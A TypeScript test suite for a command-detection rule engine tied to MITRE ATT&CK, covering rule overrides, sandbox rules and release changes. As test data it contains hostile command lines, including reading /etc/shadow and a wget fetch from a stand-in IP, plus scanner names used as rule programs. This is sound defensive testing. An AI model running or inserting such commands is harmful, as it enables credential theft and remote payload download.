import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import { loadRelease } from '../attack/load.ts'
import { homeFiles } from '../attack/release-file.ts'
import { replaceRelease, revertRelease } from '../attack/replace.ts'
import { indexRules, type RuleIndex } from '../domain/ttp/engine/index-of-rules.ts'
import { itemOf } from '../domain/ttp/engine/item.ts'
import { kindByName } from '../domain/ttp/evidence/kinds.ts'
import type { Rule } from '../domain/ttp/rule/rule.ts'
import { ruleOf, ruleText } from '../domain/ttp/rule.fixture.ts'
import { homeAt, prepareHome } from '../home.ts'
import { migrate, openStore, type Store } from '../store/open.ts'
import { setRuleState } from '../store/rule-states.ts'
import { removeRule, saveRule } from '../store/rule-texts.ts'
import { overlay } from './overlay.ts'
import { ownRulesFolder, type RuleBook, ruleBook } from './rule-set.ts'

const folder = mkdtempSync(join(tmpdir(), 'book-'))
const home = homeAt(join(folder, 'home'))
const SOON = { timeout: 5_000, interval: 10 }
const by = { saved_at: 0, saved_by: 'ana' }
let store: Store
let book: RuleBook
beforeAll(async () => {
  prepareHome(home)
  store = await openStore(home.database)
  await migrate(store)
  book = ruleBook(home, { timing: { settleMs: 10, lookMs: 50 } })
})
afterEach(async () => {
  await store.db.deleteFrom('ttp_rules').execute()
})
afterAll(async () => {
  await book[Symbol.asyncDispose]()
  await store.close()
  rmSync(folder, { recursive: true, force: true })
})

const command = kindByName.get('command')
function asked(index: RuleIndex, line: string): string[] {
  if (!command) throw new Error('there is no such kind')
  return index.hits(itemOf(command, { command_text: line })).map(({ compiled }) => compiled.rule.id)
}
const text = (id: string, program: string) => ruleText(`{ programs: ${program} }`, { id }).replace('maturity: sandbox', 'maturity: stable')
const SHADOW = 'cat /etc/shadow'

it('P2: rules of one’s own lie over the shipped ones: swapped whole, the same object as long as nothing changed', async () => {
  const before = await book.set(store.db)
  expect(await book.set(store.db)).toBe(before)
  expect(asked(before.index, SHADOW)).toContain('R0014')
  await saveRule(store.db, { id: 'R0014', yaml: text('R0014', 'frobnicate'), ...by })
  const after = await book.set(store.db)
  expect(asked(after.index, SHADOW)).not.toContain('R0014')
  expect(asked(after.index, 'frobnicate')).toEqual(['R0014'])
  expect(asked(before.index, SHADOW)).toContain('R0014')
  expect(after.index.rules.filter(({ id }) => id === 'R0014')).toHaveLength(1)
  await removeRule(store.db, 'R0014')
  expect(asked((await book.set(store.db)).index, SHADOW)).toContain('R0014')
})

it('P2: the database lies over the folder, the folder over what came with the product', async () => {
  mkdirSync(ownRulesFolder(home))
  const file = join(ownRulesFolder(home), 'R0014-ours.yaml')
  writeFileSync(file, text('R0014', 'foldered'))
  const says = async (line: string) => asked((await book.set(store.db)).index, line).includes('R0014')
  await expect.poll(() => says('foldered'), SOON).toBe(true)
  await saveRule(store.db, { id: 'R0014', yaml: text('R0014', 'saved'), ...by })
  expect([await says('saved'), await says('foldered'), await says(SHADOW)]).toEqual([true, false, false])
  await removeRule(store.db, 'R0014')
  expect([await says('saved'), await says('foldered')]).toEqual([false, true])
  rmSync(file)
  await expect.poll(() => says(SHADOW), SOON).toBe(true)
})

it('an experiment is not run, and silences the rule beneath it', async () => {
  const yaml = text('R0014', 'frobnicate').replace('maturity: stable', 'maturity: sandbox')
  await saveRule(store.db, { id: 'R0014', yaml, ...by })
  const { index } = await book.set(store.db)
  expect([asked(index, 'frobnicate'), asked(index, SHADOW).includes('R0014')]).toEqual([[], false])
})

const ATTACK = 'enterprise-attack'
/** The release that came with the product, but without a technique. */
function without(technique: string) {
  const release = loadRelease(home, ATTACK)
  const { [technique]: _, ...groupsByTechnique } = release.groupsByTechnique
  return { ...release, release: '19', groupsByTechnique, techniques: release.techniques.filter(({ id }) => id !== technique) }
}

it('P1: a release of ATT&CK without a technique silences the rules that name it, own ones too, at once and no others; what was before brings them back', async () => {
  await saveRule(store.db, { id: 'OURS', yaml: text('OURS', 'frobnicate'), ...by })
  const says = async (line: string) => {
    const { index, release } = await book.set(store.db)
    return { release, of: asked(index, line) }
  }
  const technique = /technique: (T[\d.]+)/u.exec(text('OURS', 'frobnicate'))?.[1] ?? ''
  expect((await says('frobnicate')).of).toEqual(['OURS'])
  replaceRelease(home, without(technique))
  expect(await says('frobnicate')).toEqual({ release: '19', of: [] })
  expect((await book.own(store.db)).broken).toMatchObject([{ id: 'OURS', message: expect.stringContaining(technique) }])
  replaceRelease(home, without('T1003.008'))
  const { of } = await says(`${SHADOW}; wget http://198.51.100.9/a`)
  expect([of.includes('R0014'), of.includes('R0012')]).toEqual([false, true])
  const begun = ruleBook(home)
  expect(asked((await begun.set(store.db)).index, SHADOW)).not.toContain('R0014')
  await begun[Symbol.asyncDispose]()
  while (revertRelease(home, ATTACK) === 'former');
  expect([(await says(SHADOW)).of.includes('R0014'), (await says('frobnicate')).of]).toEqual([true, ['OURS']])
})

it('rules are asked while the data of ATT&CK in the home is broken: by what came with the product', async () => {
  replaceRelease(home, without('T1003.008'))
  writeFileSync(homeFiles(home, ATTACK).current, '{')
  const { index, release } = await book.set(store.db)
  expect([release, asked(index, SHADOW).includes('R0014')]).toEqual(['18', true])
  revertRelease(home, ATTACK)
})

it('what lies over an index says the same as all made ready together', () => {
  const rules = ['nmap', 'masscan', 'cat', 'ls'].map((program, n): Rule => ruleOf(`{ programs: ${program} }`, { id: `R${n}` }))
  const changed = ruleOf('{ programs: [ls, id] }', { id: 'R1' })
  const over = overlay(indexRules(rules), [changed], new Set(['R2']))
  const whole = indexRules([...rules.filter(({ id }) => id !== 'R1' && id !== 'R2'), changed])
  for (const line of ['nmap x; masscan y; cat z; ls', 'id', 'cat /etc/shadow', 'masscan', ''])
    expect(asked(over, line)).toEqual(asked(whole, line))
  expect(over.rules.map(({ id }) => id).toSorted()).toEqual(whole.rules.map(({ id }) => id).toSorted())
})

it('P2: setting a state, or saving a text, that fails throws', async () => {
  const readonly = await openStore(home.database, { readonly: true })
  const state = {
    rule_id: 'R0014',
    state: 'disabled' as const,
    confidence_max: null,
    expires_at: null,
    reason: null,
    set_by: 'ana',
    set_at: 0,
  }
  await expect(setRuleState(readonly.db, state)).rejects.toThrow()
  await expect(saveRule(readonly.db, { id: 'R0014', yaml: 'x', ...by })).rejects.toThrow()
  await readonly.close()
})
